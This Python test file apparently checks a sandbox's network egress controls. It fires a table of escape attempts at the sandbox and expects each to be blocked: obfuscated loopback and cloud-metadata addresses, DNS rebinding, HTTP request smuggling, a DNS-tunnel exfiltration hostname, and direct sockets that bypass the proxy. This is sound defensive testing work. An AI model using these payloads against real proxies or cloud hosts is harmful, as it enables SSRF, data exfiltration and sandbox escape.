# SPDX-License-Identifier: Apache-2.0
"""One table of attacks for every mechanism that keeps a sandbox in: a mechanism says how something is started inside,
and gets all of them by name."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import ssl
import subprocess
import tempfile
import threading
import unittest
from pathlib import Path
from typing import Any, Callable, ContextManager, Iterator

from world import (METADATA, PRIVATE, PUBLIC, PUBLIC2, PUBLIC6, Origin, Proxy, Resolver, Server, echo, make_certificate,
                   reason, run, status)

INSIDE = (Path(__file__).parent / "inside.py").read_text()
PYTHON = "/usr/bin/python3"
DROP = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--bounding-set=-all", "--inh-caps=-all",
        "--no-new-privs")


class Place:
    """A sandbox, with somebody inside."""

    def __init__(self, process: subprocess.Popen[bytes], decisions: Callable[[], list[dict[str, Any]]]) -> None:
        self.process = process
        self.decisions = decisions
        assert process.stdout is not None
        word = process.stdout.readline()
        assert word == b"there\n", (word, process.stderr.read() if process.stderr else b"")

    def try_all(self, *tasks: dict[str, Any]) -> list[Any]:
        """What comes of some attempts, all at once."""
        assert self.process.stdin is not None and self.process.stdout is not None
        self.process.stdin.write(json.dumps(tasks).encode() + b"\n")
        self.process.stdin.flush()
        answers: list[Any] = json.loads(self.process.stdout.readline())
        return answers

    def send(self, request: str) -> bytes:
        return str(self.try_all({"do": "send", "request": request})[0]).encode("latin-1")

    def close(self) -> None:
        self.process.communicate(timeout=60)


class Mechanism:
    """What is around a sandbox. HOST is an address of this machine that would be in reach of one with a network."""

    host = "127.0.0.1"

    def open(self, *rules: str) -> ContextManager[Place]:
        """A sandbox that reaches what RULES say and nothing else."""
        raise NotImplementedError

    def open_bare(self) -> ContextManager[Place]:
        """The same with nothing in force: an attack that fails in here as well proves nothing."""
        raise NotImplementedError


class Run(Mechanism):
    """`zuctl run` with options, which say what it is run in."""

    def __init__(self, *options: str) -> None:
        self.options = options

    @contextlib.contextmanager
    def open(self, *rules: str) -> Iterator[Place]:
        folder = tempfile.mkdtemp(prefix="zu-battery-")
        log = f"sqlite:{folder}/log.db"
        environment = dict(os.environ, XDG_STATE_HOME=f"{folder}/state", XDG_CONFIG_HOME=f"{folder}/config")

        def decisions() -> list[dict[str, Any]]:
            words = ["zuctl", "log", "query", log, "--filter", "type=harness.egress.observed", "--json"]
            lines = subprocess.run(words, check=True, capture_output=True, env=environment).stdout.splitlines()
            return [json.loads(line)["payload"] for line in lines]

        allow = [word for rule in rules for word in ("--allow", rule)]
        process = subprocess.Popen(["zuctl", "run", "--sink", log, *self.options, *allow, "--", PYTHON, "-c", INSIDE],
                                   env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        try:
            place = Place(process, decisions)
            yield place
            place.close()
        finally:
            process.kill()
            process.communicate()
            shutil.rmtree(folder)

    @contextlib.contextmanager
    def open_bare(self) -> Iterator[Place]:
        process = subprocess.Popen([*DROP, PYTHON, "-c", INSIDE], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        place = Place(process, list)
        yield place
        place.close()


class Namespace(Mechanism):
    """A network namespace with a way out, the rules of an enforcement in it, and a proxy outside."""

    host = "10.78.0.1"

    def __init__(self, mechanism: str) -> None:
        self.mechanism = mechanism
        self.count = 0

    @contextlib.contextmanager
    def make_box(self) -> Iterator[str]:
        number, self.count = self.count, self.count + 1
        box, out = f"battery{number}", f"10.78.{number}."
        if number == 0:
            Path("/run/netns").mkdir(exist_ok=True)
            run("mount", "-t", "tmpfs", "tmpfs", "/run/netns")
        run("ip", "netns", "add", box)
        run("ip", "link", "add", f"bat{number}", "type", "veth", "peer", "name", "in0", "netns", box)
        run("ip", "address", "add", f"{out}1/24", "dev", f"bat{number}")
        run("ip", "-6", "address", "add", f"fd78:{number}::1/64", "dev", f"bat{number}", "nodad")
        run("ip", "link", "set", f"bat{number}", "up")
        for words in (f"link set lo up|address add {out}2/24 dev in0|-6 address add fd78:{number}::2/64 dev in0 nodad|"
                      f"link set in0 up|route add default via {out}1|-6 route add default via fd78:{number}::1").split("|"):
            run("ip", "-n", box, *words.split())
        run("ip", "netns", "exec", box, "sysctl", "-qw", "net.ipv4.ping_group_range=0 2147483647")
        try:
            yield f"{out}1"
        finally:
            run("ip", "link", "delete", f"bat{number}")
            run("ip", "netns", "delete", box)

    @contextlib.contextmanager
    def enter(self, outside: str, decisions: Callable[[], list[dict[str, Any]]], port: int = 0) -> Iterator[Place]:
        box = f"battery{outside.split('.')[2]}"
        environment = dict(os.environ, HTTP_PROXY=f"http://{outside}:{port}")
        process = subprocess.Popen(["ip", "netns", "exec", box, *DROP, PYTHON, "-c", INSIDE], env=environment,
                                   stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        try:
            place = Place(process, decisions)
            yield place
            place.close()
        finally:
            process.kill()
            process.communicate()

    @contextlib.contextmanager
    def open(self, *rules: str) -> Iterator[Place]:
        with self.make_box() as outside, contextlib.ExitStack() as stack:
            proxy = Proxy(*(word for rule in rules for word in ("--allow", rule)), address=outside)
            stack.callback(proxy.stop)
            with tempfile.NamedTemporaryFile("w", suffix=".json") as spec:
                json.dump({"proxy": {"host": "zu-proxy", "ip": outside, "port": proxy.port}}, spec)
                spec.flush()
                run("zuctl", "egress", "apply", "--mechanism", self.mechanism, "--netns",
                    f"/run/netns/battery{outside.split('.')[2]}", "--spec", spec.name)
            yield stack.enter_context(self.enter(outside, proxy.decisions, proxy.port))

    @contextlib.contextmanager
    def open_bare(self) -> Iterator[Place]:
        with self.make_box() as outside, self.enter(outside, list) as place:
            yield place


class World:
    """What there is to attack: every server counts who comes."""

    def __init__(self, resolver: Resolver) -> None:
        self.resolver = resolver
        self.folder = Path(tempfile.mkdtemp(prefix="zu-battery-"))
        self.datagrams: list[bytes] = []
        self.origin = Origin()
        self.other = Server(echo)
        self.forbidden = [self.other, *(Server(echo, address=address, port=port) for address, port in (
            (PUBLIC6, 0), (PRIVATE, self.origin.port), (METADATA, 80), (PUBLIC2, 53), (PUBLIC2, 853)))]
        self.tls = Server(self.serve_tls)
        certificate, key = make_certificate(self.folder, "tls.example")
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(certificate, key)
        self.sockets = [self.answer_datagrams(address, port) for address, port in ((PUBLIC2, 53), (PUBLIC, 443), (PUBLIC6, 53))]
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind("\0zu-battery")
        self.abstract.listen()
        self.hosts: dict[str, Server] = {}
        self.port = self.origin.port
        for name, turns in (("good.example", [[PUBLIC]]), ("a.wild.example", [[PUBLIC]]), ("tls.example", [[PUBLIC]]),
                            ("inside.example", [[PRIVATE]]), ("metadata.example", [[METADATA]]),
                            ("loop.example", [["127.0.0.1"]]), ("mapped.example", [["::ffff:127.0.0.1"]]),
                            ("both.example", [[PRIVATE, PUBLIC]]), ("turns.example", [[PUBLIC], [PRIVATE]])):
            resolver.set(name, *turns)

    def open_host(self, address: str) -> Server:
        """A service of this machine, where a sandbox could find it."""
        return self.hosts.setdefault(address, Server(echo, address=address))

    def serve_tls(self, connection: socket.socket) -> None:
        with self.context.wrap_socket(connection, server_side=True) as stream:
            echo(stream)

    def answer_datagrams(self, address: str, port: int) -> socket.socket:
        server = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
        server.bind((address, port))

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    data, peer = server.recvfrom(100)
                    self.datagrams.append(data)
                    server.sendto(data, peer)

        threading.Thread(target=serve, daemon=True).start()
        return server

    def count(self) -> int:
        """How often anybody came to where nobody may."""
        return sum(server.accepted for server in (*self.forbidden, *self.hosts.values())) + len(self.datagrams)

    def close(self) -> None:
        for server in (self.origin, self.tls, *self.forbidden, *self.hosts.values()):
            server.close()
        for each in (*self.sockets, self.abstract):
            each.close()
        shutil.rmtree(self.folder)

    def rules(self) -> list[str]:
        names = ("good", "*.wild", "inside", "metadata", "loop", "mapped", "both", "turns")
        return [f"{PUBLIC}:{self.port}", f"tls.example:{self.tls.port}", *(f"{name}.example:{self.port}" for name in names)]


def direct(world: World, host: Server) -> dict[str, tuple[str, str, int, bool]]:
    """Ways around the proxy: kind, host, port, and whether each leads there without a mechanism."""
    return {
        "tcp-ipv4": ("tcp4", PUBLIC, world.other.port, True),
        "tcp-ipv4-mapped": ("tcp6", f"::ffff:{PUBLIC}", world.other.port, True),
        "tcp-ipv6": ("tcp6", PUBLIC6, world.forbidden[1].port, True),
        "tcp-private": ("tcp4", PRIVATE, world.port, True),
        "tcp-metadata": ("tcp4", METADATA, 80, True),
        "tcp-service-of-this-machine": ("tcp4", host.address, host.port, True),
        "dns-tcp": ("tcp4", PUBLIC2, 53, True),
        "dns-over-tls": ("tcp4", PUBLIC2, 853, True),
        "dns-udp": ("udp4", PUBLIC2, 53, True),
        "dns-udp-ipv6": ("udp6", PUBLIC6, 53, True),
        "quic": ("udp4", PUBLIC, 443, True),
        "icmp": ("icmp4", PUBLIC, 0, True),
        "icmp-ipv6": ("icmp6", PUBLIC6, 0, True),
        "resolver-of-this-machine": ("udp4", "127.0.0.1", 53, False),
        "name": ("name4", "good.example", 80, False),
        "raw": ("raw4", "", 0, False),
        "packet": ("packet4", "", 0, False),
        "abstract-socket": ("unix4", "zu-battery", 0, False),
    }


GET = "GET http://{0}/ HTTP/1.1\r\nHost: {0}\r\nConnection: close\r\n\r\n"
CONNECT = "CONNECT {0} HTTP/1.1\r\n\r\n"

# What the proxy says to whom: 0 is a target or a whole request; {o} is where one may go, {p} its port.
PROXIED: dict[str, tuple[str, int, str]] = {
    "allowed": (GET.format("{o}"), 200, ""),
    "allowed-name": (GET.format("good.example:{p}"), 200, ""),
    "allowed-below": (GET.format("A.wild.EXAMPLE.:{p}"), 200, ""),
    "other-port": (CONNECT.format(f"{PUBLIC}:22"), 403, "port-not-allowed"),
    "other-address": (CONNECT.format(f"{PUBLIC2}:{{p}}"), 403, "not-allowed"),
    "apex": (GET.format("wild.example:{p}"), 403, "not-allowed"),
    "suffix": (GET.format("notgood.example:{p}"), 403, "not-allowed"),
    "prefix": (GET.format("good.example.evil.example:{p}"), 403, "not-allowed"),
    "dns-tunnel": (CONNECT.format("c2VjcmV0.exfil.example:{p}"), 403, "not-allowed"),
    "rebound-private": (GET.format("inside.example:{p}"), 403, "internal-address"),
    "rebound-metadata": (GET.format("metadata.example:{p}"), 403, "internal-address"),
    "rebound-loopback": (GET.format("loop.example:{p}"), 403, "internal-address"),
    "rebound-mapped": (GET.format("mapped.example:{p}"), 403, "internal-address"),
    "rebound-in-part": (GET.format("both.example:{p}"), 200, ""),
    "host-differs": ("GET http://{o}/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n", 200, ""),
    "two-hosts": ("GET http://{o}/ HTTP/1.1\r\nHost: {o}\r\nHost: evil.example\r\n\r\n", 400, "bad-request"),
    "userinfo": (CONNECT.format("{o}@evil.example:443"), 400, "bad-request"),
    "no-port": (CONNECT.format(PUBLIC), 400, "bad-request"),
    "line-feeds": ("GET http://{o}/ HTTP/1.1\nHost: {o}\n\n", 400, "bad-request"),
    "folded": ("GET http://{o}/ HTTP/1.1\r\nHost: {o}\r\nA: b\r\n c\r\n\r\n", 400, "bad-request"),
    "length-and-chunks": ("POST http://{o}/ HTTP/1.1\r\nHost: {o}\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n"
                          "0\r\n\r\n", 400, "bad-request"),
    "two-lengths": ("POST http://{o}/ HTTP/1.1\r\nHost: {o}\r\nContent-Length: 3\r\nContent-Length: 0\r\n\r\nabc", 400,
                    "bad-request"),
    **{f"metadata-name-{name}": (CONNECT.format(f"{name}:80"), 403, "internal-name") for name in (
        "localhost", "LocalHost.", "metadata", "metadata.google.internal", "instance-data", "metadata.tencentyun.com",
        "host.docker.internal", "kubernetes.default.svc")},
    **{f"spelling-{host}": (CONNECT.format(f"{host}:{{p}}"), 403, "internal-address") for host in (
        "127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "017700000001", "0x7f.1", "127.0.0.1.", "0", "0.0.0.0",
        "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[::1]", "[::]", "[0:0:0:0:0:0:0:1]",
        "[::ffff:127.0.0.1]", "[::ffff:a9fe:a9fe]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1%25eth0]",
        "[::1%lo]", "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16", "10.9.9.9", "224.0.0.251", "255.255.255.255")},
    "odd-spelling-of-what-is-allowed": (GET.format("0x5db8d822:{p}"), 403, "odd-address"),
}


class Battery(unittest.TestCase):
    """All attacks on MECHANISM in WORLD; whoever derives from it says which."""

    mechanism: Mechanism
    world: World
    resolver: Resolver

    @classmethod
    def setUpClass(cls) -> None:
        cls.resolver = cls.world.resolver
        cls.place = cls.enterClassContext(cls.mechanism.open(*cls.world.rules()))

    def fill(self, text: str) -> str:
        return text.replace("{o}", f"{PUBLIC}:{self.world.port}").replace("{p}", str(self.world.port))

    def test_direct(self) -> None:
        """Without the mechanism each leads somewhere; with it, none does, and nobody was called on."""
        with self.mechanism.open_bare() as bare:
            attacks = direct(self.world, self.world.open_host(self.mechanism.host))
            tasks = [{"do": "reach", "kind": kind, "host": to, "port": port} for kind, to, port, _ in attacks.values()]
            answers = dict(zip(attacks, bare.try_all(*tasks)))
        self.assertEqual([name for name, attack in attacks.items() if attack[3] and not answers[name]], [])
        before, asked = self.world.count(), len(self.resolver.asked)
        answers = dict(zip(attacks, self.place.try_all(*tasks)))
        self.assertEqual([name for name, answer in answers.items() if answer], [])
        self.assertEqual((self.world.count(), len(self.resolver.asked)), (before, asked))

    def test_proxied(self) -> None:
        before = self.world.count()
        self.resolver.asked.clear()
        for name, (request, code, why) in PROXIED.items():
            with self.subTest(name):
                answer = self.place.send(self.fill(request))
                self.assertEqual((status(answer), reason(answer)), (code, why))
                if code != 200:  # committed before it was told
                    self.assertEqual((self.place.decisions()[-1]["allowed"], self.place.decisions()[-1]["reason"]), (False, why))
        self.assertEqual(self.world.count(), before)
        allowed = {"good", "a.wild", "inside", "metadata", "loop", "mapped", "both"}
        self.assertEqual(set(self.resolver.asked), {f"{name}.example" for name in allowed})
        self.assertFalse(any(b"evil" in head for head in self.world.origin.heads))

    def test_rebinding(self) -> None:
        """A name that led outside and then leads inside."""
        self.resolver.asked.clear()
        answers = [self.place.send(self.fill(GET.format("turns.example:{p}"))) for _ in range(2)]
        self.assertEqual([(status(answer), reason(answer)) for answer in answers], [(200, ""), (403, "internal-address")])

    def test_smuggling(self) -> None:
        """A request in the body of another is none, and one behind it is judged by itself."""
        hidden = GET.format("evil.example:{p}")
        head = "POST http://{o}/ HTTP/1.1\r\nHost: {o}\r\n"
        for body in (f"Content-Length: 5\r\n\r\nhello{hidden}", f"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n{hidden}"):
            answer = self.place.send(self.fill(head + body))
            self.assertEqual((answer.count(b" 200 OK"), reason(answer)), (1, "not-allowed"))
        before = len(self.world.origin.heads)
        self.place.send(self.fill(f"{head}Connection: close\r\nContent-Length: {len(self.fill(hidden))}\r\n\r\n{hidden}"))
        self.assertEqual(len(self.world.origin.heads), before + 1)

    def test_names_in_tls(self) -> None:
        target = f"tls.example:{self.world.tls.port}"
        for name, answer in (("tls.example", "hello"), ("evil.example", "TLSV1_UNRECOGNIZED_NAME"), (None, "TLSV1_UNRECOGNIZED_NAME")):
            self.assertEqual(self.place.try_all({"do": "shake", "target": target, "name": name}), [answer])
        self.assertEqual([record["reason"] for record in self.place.decisions()[-2:]], ["sni-mismatch", "no-sni"])

    def test_two_at_once(self) -> None:
        """Each has its own rules, and its own record."""
        other = Origin()
        self.addCleanup(other.close)
        urls = [GET.format(f"{PUBLIC}:{server.port}") for server in (self.world.origin, other)]
        with self.mechanism.open(f"{PUBLIC}:{self.world.port}") as one, self.mechanism.open(f"{PUBLIC}:{other.port}") as two:
            for _ in range(3):
                answers = [[status(place.send(url)) for url in urls] for place in (one, two)]
                self.assertEqual(answers, [[200, 403], [403, 200]])
            for place in (one, two):
                self.assertEqual([record["reason"] for record in place.decisions() if not record["allowed"]],
                                 ["port-not-allowed"] * 3)
